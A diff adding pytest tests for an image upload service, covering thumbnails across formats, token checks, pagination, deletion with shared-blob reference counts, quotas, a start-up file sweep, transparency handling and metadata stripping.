+    if kind == "png-alpha":
+        data, mime = encode(PILImage.new("RGBA", (400, 200), (255, 0, 0, 60)), "PNG"), "image/png"
+    elif kind == "gif-animated":
+        frames = [gradient((400, 200)).rotate(angle).convert("P") for angle in (0, 90, 180)]
+        data = encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0)
+        mime = "image/gif"
+    elif kind == "webp":
+        data, mime = encode(gradient((400, 200)), "WEBP"), "image/webp"
+    else:
+        im = PILImage.new("I;16", (400, 200))
+        im.putdata([(i * 37) % 65536 for i in range(400 * 200)])
+        data, mime = encode(im, "PNG"), "image/png"
+    image = await uploaded(api, user.token, data, content_type=mime)
+    response = await fetch(api, image["thumbnails"]["160"])
+    assert response.code == 200 and response.headers["Content-Type"] == mime
+    thumb = open_image(response.body)
+    assert thumb.size == (160, 80) and thumb.format == image["format"].upper()
+    if kind == "png-alpha":
+        assert thumb.mode == "RGBA" and thumb.getpixel((80, 40))[3] == 60
+    if kind == "gif-animated":
+        assert thumb.n_frames == 3
+
+
+@gen_test
+async def test_a_thumbnail_is_made_once_even_when_asked_for_concurrently(api, user, app, monkeypatch):
+    image = await uploaded(api, user.token, jpeg((1400, 900)))
+    made = []
+    original = imaging.make_thumbnail
+
+    def counting(*args: Any) -> None:
+        made.append(args)
+        original(*args)
+
+    monkeypatch.setattr(imaging, "make_thumbnail", counting)
+    responses = await asyncio.gather(*(fetch(api, image["thumbnails"]["320"]) for _ in range(8)))
+    assert [r.code for r in responses] == [200] * 8
+    assert len({r.body for r in responses}) == 1
+    assert open_image(responses[0].body).width == 320
+    assert len(made) == 1
+    assert len(files(media(app) / "thumbs")) == 1
+    thumb = files(media(app) / "thumbs")[0]
+    assert thumb.read_bytes() == responses[0].body
+    assert_no_temp_files(app)
+
+
+# -- auth on every call ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("authorization", [None, "Bearer ", "Bearer not-a-real-token", "Basic dXNlcjpwYXNz",
+                                           "bearer"])
+@gen_test
+async def test_every_images_api_call_needs_a_valid_token(api, user, app, authorization):
+    image = await uploaded(api, user.token, jpeg())
+    headers = {"Authorization": authorization} if authorization is not None else {}
+    body, content_type = multipart(jpeg((20, 20)))
+    calls = [
+        api.post("/images", body=body, headers={**headers, "Content-Type": content_type}),
+        api.post("/images", body=jpeg((20, 20)), headers={**headers, "Content-Type": "image/jpeg"}),
+        api.get("/images", headers=headers),
+        api.get("/images?limit=5", headers=headers),
+        api.delete(f"/images/{image['id']}", headers=headers),
+    ]
+    for response in await asyncio.gather(*calls):
+        assert response.code == 401 and response.error == "unauthorized"
+    assert count(app, Image) == 1 and len(files(media(app) / "blobs")) == 1
+    assert_no_temp_files(app)
+
+
+@gen_test
+async def test_a_logged_out_token_cannot_upload(api, user, app):
+    assert (await api.post("/users/logout", token=user.token)).code == 204
+    response = await upload(api, user.token, jpeg())
+    assert response.code == 401 and response.error == "unauthorized"
+    assert_nothing_stored(app)
+
+
+@pytest.mark.settings(max_upload_bytes=LIMIT)
+@gen_test
+async def test_token_is_checked_before_the_body_is_read(app, user, http_port):
+    head = request_head("wrong-token", "image/jpeg", length=LIMIT)  # no body follows
+    status, _, body = await raw_http(http_port, head)
+    assert status == 401 and json_error(body) == "unauthorized"
+    assert_nothing_stored(app)
+
+
+# -- listing ---------------------------------------------------------------------------------------
+
+
+@gen_test
+async def test_listing_shows_own_images_newest_first(api, user, outbox):
+    mine = [await uploaded(api, user.token, jpeg((30 + i, 20))) for i in range(3)]
+    other_token = await second_user(api, outbox)
+    theirs = await uploaded(api, other_token, jpeg((30, 20)))  # the same bytes as one of mine
+
+    listed = await api.get("/images", token=user.token)
+    assert listed.code == 200
+    assert set(listed.json) == {"images", "next_cursor"} and listed.json["next_cursor"] is None
+    assert listed.json["images"] == list(reversed(mine))
+    assert theirs["id"] not in {i["id"] for i in listed.json["images"]}
+
+    listed = await api.get("/images", token=other_token)
+    assert [i["id"] for i in listed.json["images"]] == [theirs["id"]]
+
+
+@gen_test
+async def test_listing_is_empty_for_a_new_user(api, user):
+    listed = await api.get("/images", token=user.token)
+    assert listed.code == 200 and listed.json == {"images": [], "next_cursor": None}
+
+
+@gen_test
+async def test_cursor_pagination(api, user):
+    ids = [(await uploaded(api, user.token, jpeg((20 + i, 20))))["id"] for i in range(5)]
+    seen, cursor, pages = [], None, []
+    while True:
+        query = "/images?limit=2" + (f"&cursor={cursor}" if cursor else "")
+        response = await api.get(query, token=user.token)
+        assert response.code == 200, response.body
+        page = [i["id"] for i in response.json["images"]]
+        pages.append(len(page))
+        seen += page
+        cursor = response.json["next_cursor"]
+        if cursor is None:
+            break
+        assert re.fullmatch(r"[A-Za-z0-9_-]+", cursor)
+    assert pages == [2, 2, 1]
+    assert seen == list(reversed(ids))
+
+    exact = await api.get("/images?limit=5", token=user.token)
+    assert len(exact.json["images"]) == 5 and exact.json["next_cursor"] is None
+    default = await api.get("/images", token=user.token)
+    assert len(default.json["images"]) == 5
+
+
+@gen_test
+async def test_pagination_survives_deletes_and_new_uploads(api, user):
+    ids = [(await uploaded(api, user.token, jpeg((20 + i, 20))))["id"] for i in range(4)]
+    first = await api.get("/images?limit=2", token=user.token)
+    assert [i["id"] for i in first.json["images"]] == [ids[3], ids[2]]
+    await uploaded(api, user.token, jpeg((50, 20)))  # newer: belongs before the first page
+    assert (await api.delete(f"/images/{ids[1]}", token=user.token)).code == 204
+    rest = await api.get(f"/images?limit=2&cursor={first.json['next_cursor']}", token=user.token)
+    assert [i["id"] for i in rest.json["images"]] == [ids[0]] and rest.json["next_cursor"] is None
+
+
+@pytest.mark.parametrize("limit", ["0", "101", "-1", "abc", "1.5", "", "1e2"])
+@gen_test
+async def test_limit_out_of_range_is_422(api, user, limit):
+    response = await api.get(f"/images?limit={limit}", token=user.token)
+    assert_error(response, 422, "invalid_field", "limit")
+
+
+@pytest.mark.parametrize("limit", ["1", "100"])
+@gen_test
+async def test_limit_bounds_are_accepted(api, user, limit):
+    await uploaded(api, user.token, jpeg())
+    await uploaded(api, user.token, jpeg())
+    response = await api.get(f"/images?limit={limit}", token=user.token)
+    assert response.code == 200 and len(response.json["images"]) == min(int(limit), 2)
+
+
+@pytest.mark.parametrize("cursor", ["garbage!", "bm9wZQ", "djE6YWJj", "v1:12", "djI6MTI", "djE6LTE"])
+@gen_test
+async def test_bad_cursor_is_422(api, user, cursor):
+    response = await api.get(f"/images?cursor={cursor}", token=user.token)
+    assert_error(response, 422, "invalid_field", "cursor")
+
+
+# -- deleting --------------------------------------------------------------------------------------
+
+
+@gen_test
+async def test_delete_own_image(api, user, app):
+    image = await uploaded(api, user.token, jpeg())
+    response = await api.delete(f"/images/{image['id']}", token=user.token)
+    assert response.code == 204 and response.body == b""
+    assert (await fetch(api, image["url"])).code == 404
+    assert (await fetch(api, image["thumbnails"]["160"])).code == 404
+    assert (await api.get("/images", token=user.token)).json["images"] == []
+    again = await api.delete(f"/images/{image['id']}", token=user.token)
+    assert again.code == 404 and again.error == "not_found"
+    assert_nothing_stored(app)
+
+
+@gen_test
+async def test_deleting_someone_elses_image_is_404_and_it_stays(api, user, app, outbox):
+    image = await uploaded(api, user.token, jpeg())
+    other_token = await second_user(api, outbox)
+    response = await api.delete(f"/images/{image['id']}", token=other_token)
+    assert response.code == 404 and response.error == "not_found"
+    assert (await fetch(api, image["url"])).code == 200
+    assert [i["id"] for i in (await api.get("/images", token=user.token)).json["images"]] == [image["id"]]
+    assert count(app, Image) == 1
+
+
+@pytest.mark.parametrize("image_id", ["unknown", secrets.token_urlsafe(16), "a" * 40, "x" * 22])
+@gen_test
+async def test_deleting_unknown_ids_is_404(api, user, image_id):
+    response = await api.delete(f"/images/{image_id}", token=user.token)
+    assert response.code == 404 and response.error == "not_found"
+
+
+@gen_test
+async def test_shared_blob_and_its_thumbnails_go_with_the_last_image(api, user, app, outbox):
+    data = jpeg((400, 300))
+    first = await uploaded(api, user.token, data)
+    other_token = await second_user(api, outbox)
+    second = await uploaded(api, other_token, data)
+    assert first["sha256"] == second["sha256"] and first["id"] != second["id"]
+    sha = first["sha256"]
+    blob = Path(app.services.store.local_path(sha))
+    assert files(media(app) / "blobs") == [blob]
+    assert blob_refs(app, sha) == 2
+    assert (await fetch(api, first["thumbnails"]["160"])).code == 200
+    assert (await fetch(api, second["thumbnails"]["320"])).code == 200
+    assert len(files(media(app) / "thumbs")) == 2
+
+    assert (await api.delete(f"/images/{first['id']}", token=user.token)).code == 204
+    assert blob.exists() and len(files(media(app) / "thumbs")) == 2
+    assert blob_refs(app, sha) == 1
+    assert (await fetch(api, first["url"])).code == 404
+    assert (await fetch(api, second["url"])).code == 200
+
+    assert (await api.delete(f"/images/{second['id']}", token=other_token)).code == 204
+    assert not blob.exists()
+    assert_nothing_stored(app)
+
+    # The same bytes again: stored afresh and served.
+    again = await uploaded(api, user.token, data)
+    assert again["sha256"] == sha and blob.exists() and blob_refs(app, sha) == 1
+    assert (await fetch(api, again["url"])).code == 200
+
+
+@gen_test
+async def test_the_same_image_uploaded_ten_times_concurrently_is_one_blob_and_ten_rows(api, user, app):
+    data = jpeg((300, 200))
+    responses = await asyncio.gather(*(upload(api, user.token, data) for _ in range(10)))
+    assert [r.code for r in responses] == [201] * 10, [r.body for r in responses if r.code != 201]
+    images = [r.json["image"] for r in responses]
+    assert len({i["id"] for i in images}) == 10 and len({i["sha256"] for i in images}) == 1
+    assert count(app, Image) == 10 and count(app, ImageBlob) == 1
+    assert blob_refs(app, images[0]["sha256"]) == 10
+    assert files(media(app) / "blobs") == [Path(app.services.store.local_path(images[0]["sha256"]))]
+    assert_no_temp_files(app)
+    listed = await api.get("/images?limit=100", token=user.token)
+    assert len(listed.json["images"]) == 10
+
+
+@gen_test
+async def test_concurrent_uploads_of_the_same_bytes_by_different_users(api, user, app, outbox):
+    other_token = await second_user(api, outbox)
+    data = jpeg((300, 200))
+    responses = await asyncio.gather(*(upload(api, token, data) for token in [user.token, other_token] * 5))
+    assert [r.code for r in responses] == [201] * 10, [r.body for r in responses if r.code != 201]
+    assert count(app, Image) == 10 and count(app, ImageBlob) == 1
+    assert len(files(media(app) / "blobs")) == 1
+
+
+@gen_test
+async def test_concurrent_deletes_and_uploads_of_the_same_bytes_never_lose_the_file(api, user, app):
+    data = jpeg((300, 200))
+    existing = [await uploaded(api, user.token, data) for _ in range(5)]
+    calls = [api.delete(f"/images/{i['id']}", token=user.token) for i in existing]
+    calls += [upload(api, user.token, data) for _ in range(5)]
+    responses = await asyncio.gather(*calls)
+    assert [r.code for r in responses] == [204] * 5 + [201] * 5
+    survivors = [r.json["image"] for r in responses[5:]]
+    assert count(app, Image) == 5 and blob_refs(app, survivors[0]["sha256"]) == 5
+    for image in survivors:
+        assert (await fetch(api, image["url"])).code == 200
+
+
+@gen_test
+async def test_delete_with_a_file_path_is_not_allowed(api, user, app):
+    image = await uploaded(api, user.token, jpeg())
+    response = await api.delete(path_of(image["url"]), token=user.token)
+    assert response.code == 405 and response.error == "method_not_allowed"
+    assert count(app, Image) == 1
+
+
+# -- quotas and the profile's image_count ----------------------------------------------------------
+
+
+@pytest.mark.settings(image_quota_count=2)
+@gen_test
+async def test_count_quota(api, user, app):
+    first = await uploaded(api, user.token, jpeg((20, 20)))
+    await uploaded(api, user.token, jpeg((21, 20)))
+    response = await upload(api, user.token, jpeg((22, 20)))
+    assert response.code == 403 and response.error == "quota_exceeded"
+    assert count(app, Image) == 2 and len(files(media(app) / "blobs")) == 2
+    assert_no_temp_files(app)
+    assert (await api.delete(f"/images/{first['id']}", token=user.token)).code == 204
+    assert (await upload(api, user.token, jpeg((22, 20)))).code == 201
+
+
+@pytest.mark.settings(image_quota_count=3)
+@gen_test
+async def test_count_quota_holds_under_concurrent_uploads(api, user, app):
+    responses = await asyncio.gather(*(upload(api, user.token, jpeg((20 + i, 20))) for i in range(8)))
+    codes = sorted(r.code for r in responses)
+    assert codes == [201] * 3 + [403] * 5
+    assert all(r.error == "quota_exceeded" for r in responses if r.code == 403)
+    assert count(app, Image) == 3 and len(files(media(app) / "blobs")) == 3
+    assert_no_temp_files(app)
+
+
+@pytest.mark.settings(image_quota_count=1)
+@gen_test
+async def test_quotas_are_per_user(api, user, outbox):
+    await uploaded(api, user.token, jpeg())
+    other_token = await second_user(api, outbox)
+    await uploaded(api, other_token, jpeg())
+
+
+@pytest.mark.settings(image_quota_bytes=8 * KIB)
+@gen_test
+async def test_byte_quota(api, user, app):
+    a = await uploaded(api, user.token, encode(noise((40, 40), seed=1), "PNG"), content_type="image/png")
+    b_data = encode(noise((40, 40), seed=2), "PNG")
+    response = await upload(api, user.token, b_data, content_type="image/png")
+    assert response.code == 403 and response.error == "quota_exceeded"
+    assert count(app, Image) == 1 and len(files(media(app) / "blobs")) == 1
+    assert_no_temp_files(app)
+    assert (await api.delete(f"/images/{a['id']}", token=user.token)).code == 204
+    b = await uploaded(api, user.token, b_data, content_type="image/png")
+    assert a["bytes"] + b["bytes"] > 8 * KIB  # the refusal was the sum, not either image alone
+
+
+@gen_test
+async def test_profile_reports_image_count(api, user, outbox):
+    async def image_count(token: str) -> int:
+        response = await api.get("/users/me", token=token)
+        assert response.code == 200
+        return response.json["user"]["image_count"]
+
+    assert await image_count(user.token) == 0
+    images = [await uploaded(api, user.token, jpeg()) for _ in range(3)]
+    other_token = await second_user(api, outbox)
+    await uploaded(api, other_token, jpeg())
+    assert await image_count(user.token) == 3
+    await api.delete(f"/images/{images[0]['id']}", token=user.token)
+    assert await image_count(user.token) == 2
+    assert await image_count(other_token) == 1
+
+
+# -- start-up sweep --------------------------------------------------------------------------------
+
+
+def dead_pid() -> int:
+    child = subprocess.Popen([sys.executable, "-c", "pass"])
+    child.wait()
+    return child.pid
+
+
+@gen_test
+async def test_startup_sweep(api, user, app):
+    store = app.services.store
+    kept = await uploaded(api, user.token, jpeg((40, 30)))
+    kept_path = Path(store.local_path(kept["sha256"]))
+    two_hours_ago = app.services.clock.timestamp() - 7200
+    os.utime(kept_path, (two_hours_ago, two_hours_ago))  # old, but referenced: stays
+
+    tmp = media(app) / "tmp"
+    stray = tmp / f"up-{dead_pid()}-abcdef"
+    stray.write_bytes(b"half an upload")
+    in_flight = tmp / f"up-{os.getpid()}-inflight"  # a live writer's fresh file: stays
+    in_flight.write_bytes(b"still arriving")
+
+    def blob_file(seed: int) -> Path:
+        sha = hashlib.sha256(str(seed).encode()).hexdigest()
+        path = Path(store.local_path(sha))
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(b"bytes nobody points at")
+        return path
+
+    orphan_old = blob_file(1)
+    os.utime(orphan_old, (two_hours_ago, two_hours_ago))
+    orphan_young = blob_file(2)  # may belong to an upload that has not committed yet: stays
+
+    unused_sha = hashlib.sha256(b"3").hexdigest()  # a row left at refs 0 (crash between delete steps)
+    unused = blob_file(3)
+    app.services.db.run_sync(lambda s: s.add(ImageBlob(sha256=unused_sha, refs=0,
+                                                       created_at=app.services.clock.now())))
+
+    swept = app.services.images.sweep()
+
+    assert not stray.exists() and in_flight.exists()
+    assert not orphan_old.exists() and orphan_young.exists()
+    assert not unused.exists() and blob_refs(app, unused_sha) is None
+    assert kept_path.exists() and blob_refs(app, kept["sha256"]) == 1
+    assert (await fetch(api, kept["url"])).code == 200
+    assert swept == {"temp_files": 1, "unused_blobs": 1, "orphan_files": 1}
+
+
+# -- what phones and editors really send: multi-picture JPEG, APNG, palette transparency -------------
+
+
+def alpha_at(im: PILImage.Image, xy: tuple[int, int], frame: int = 0) -> int:
+    im.seek(frame)
+    return im.convert("RGBA").getpixel(xy)[3]
+
+
+@gen_test
+async def test_multi_picture_jpeg_is_stored_as_a_plain_jpeg(api, user):
+    """Phone cameras write MPO (a JPEG plus depth or preview pictures): the main picture is what counts."""
+    main, extra = gradient((60, 40)), PILImage.new("RGB", (60, 40), (0, 0, 200))
+    data = encode(main, "MPO", save_all=True, append_images=[extra])
+    assert open_image(data).n_frames == 2
+    image = await uploaded(api, user.token, data)
+    assert image["format"] == "jpeg" and (image["width"], image["height"]) == (60, 40)
+    served = await fetch(api, image["url"])
+    stored = open_image(served.body)
+    assert served.headers["Content-Type"] == "image/jpeg"
+    assert stored.format == "JPEG" and getattr(stored, "n_frames", 1) == 1  # JPEG bytes, not another format
+
+
+@gen_test
+async def test_animated_png_stays_an_animated_png(api, user):
+    frames = []
+    for i in range(3):
+        frame = PILImage.new("RGBA", (200, 100), (0, 0, 0, 0))
+        frame.paste((255, 0, 0, 255), (50 * i, 20, 50 * i + 50, 80))
+        frames.append(frame)
+    data = encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)
+    image = await uploaded(api, user.token, data, content_type="image/png")
+    assert image["format"] == "png"
+    for url, width in ((image["url"], 200), (image["thumbnails"]["160"], 160)):
+        served = await fetch(api, url)
+        assert served.headers["Content-Type"] == "image/png"
+        stored = open_image(served.body)
+        assert stored.format == "PNG" and stored.n_frames == 3 and stored.width == width
+        assert alpha_at(stored, (0, 0), frame=2) == 0
+
+
+def palette_image(size: tuple[int, int] = (200, 100)) -> PILImage.Image:
+    """Index 0 (the background) is the transparent colour; a red square in the middle."""
+    im = PILImage.new("P", size, 0)
+    im.putpalette([0, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255] * 64)
+    im.paste(1, (50, 25, 150, 75))
+    return im
+
+
+@pytest.mark.parametrize("kind", ["png-palette", "png-palette-alpha-table", "png-rgb-colour-key", "gif",
+                                  "gif-animated"])
+@gen_test
+async def test_transparency_of_palette_and_colour_key_images_is_kept(api, user, kind):
+    if kind == "png-palette":
+        data, mime = encode(palette_image(), "PNG", transparency=0), "image/png"
+    elif kind == "png-palette-alpha-table":
+        data, mime = encode(palette_image(), "PNG", transparency=b"\x00\xff"), "image/png"
+    elif kind == "png-rgb-colour-key":
+        im = PILImage.new("RGB", (200, 100), (0, 0, 0))
+        im.paste((255, 0, 0), (50, 25, 150, 75))
+        data, mime = encode(im, "PNG", transparency=(0, 0, 0)), "image/png"
+    elif kind == "gif":
+        data, mime = encode(palette_image(), "GIF", transparency=0), "image/gif"
+    else:
+        frames = [palette_image() for _ in range(3)]
+        for i, frame in enumerate(frames):
+            frame.paste(2, (10 * i, 0, 10 * i + 5, 5))
+        data = encode(frames[0], "GIF", save_all=True, append_images=frames[1:], transparency=0, duration=100,
+                      loop=0)
+        mime = "image/gif"
+    original = open_image(data)
+    assert alpha_at(original, (0, 99)) == 0 and alpha_at(original, (100, 50)) == 255
+    image = await uploaded(api, user.token, data, content_type=mime)
+    for url, scale in ((image["url"], 1), (image["thumbnails"]["160"], 0.8)):
+        served = await fetch(api, url)
+        assert served.headers["Content-Type"] == mime
+        stored = open_image(served.body)
+        frames = getattr(stored, "n_frames", 1)
+        assert frames == (3 if kind == "gif-animated" else 1)
+        for frame in range(frames):
+            assert alpha_at(stored, (0, int(99 * scale)), frame) == 0, (url, frame)  # still see-through
+            assert alpha_at(stored, (int(100 * scale), int(50 * scale)), frame) == 255, (url, frame)
+
+
+@pytest.mark.parametrize("fmt", ["jpeg", "png", "gif", "webp"])
+@gen_test
+async def test_exif_xmp_and_text_metadata_are_gone_in_every_format(api, user, fmt):
+    exif = PILImage.Exif()
+    exif[ExifTags.Base.Make] = "PhoneCo"
+    exif.get_ifd(ExifTags.IFD.GPSInfo).update({1: "N", 2: (39.0, 54.0, 27.0)})
+    im = gradient((60, 40))
+    options: dict[str, Any] = {"exif": exif}
+    if fmt == "png":
+        text = PngImagePlugin.PngInfo()
+        text.add_text("Comment", "PhoneCo owner")
+        options["pnginfo"] = text
+    if fmt in ("jpeg", "webp"):
+        options["xmp"] = b"<x:xmpmeta>PhoneCo owner</x:xmpmeta>"
+    if fmt == "gif":
+        im, options = im.convert("P"), {"comment": b"PhoneCo owner"}
+    data = encode(im, fmt.upper(), **options)
+    assert b"PhoneCo" in data
+    image = await uploaded(api, user.token, data, content_type=f"image/{fmt}")
+    served = (await fetch(api, image["url"])).body
+    assert b"PhoneCo" not in served
+    stored = open_image(served)
+    assert dict(stored.getexif()) == {} and stored.format == fmt.upper()
+
+
+@gen_test
+async def test_expect_100_continue_is_answered_only_when_the_upload_will_be_read(app, user, http_port):
+    loop = asyncio.get_running_loop()
+    data = jpeg((40, 30))
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.setblocking(False)
+    try:
+        await loop.sock_connect(sock, ("127.0.0.1", http_port))
+        extra = "Expect: 100-continue\r\nConnection: close\r\n"
+        await loop.sock_sendall(sock, request_head(user.token, "image/jpeg", length=len(data), extra=extra))
+        interim = b""
+        while b"\r\n\r\n" not in interim:
+            interim += await asyncio.wait_for(loop.sock_recv(sock, 1), 10)
+        assert interim.startswith(b"HTTP/1.1 100")
+        await loop.sock_sendall(sock, data)
+        response = b""
+        while chunk := await asyncio.wait_for(loop.sock_recv(sock, 65536), 30):
+            response += chunk
+    finally:
+        sock.close()
+    assert response.startswith(b"HTTP/1.1 201")
+    assert count(app, Image) == 1
+
+    # Refused up front: the final answer comes at once, with no 100 before it.
+    extra = "Expect: 100-continue\r\n"
+    status, _, body = await raw_http(http_port, request_head(user.token, "text/html", length=100, extra=extra))
+    assert status == 415 and json_error(body) == "unsupported_media_type"
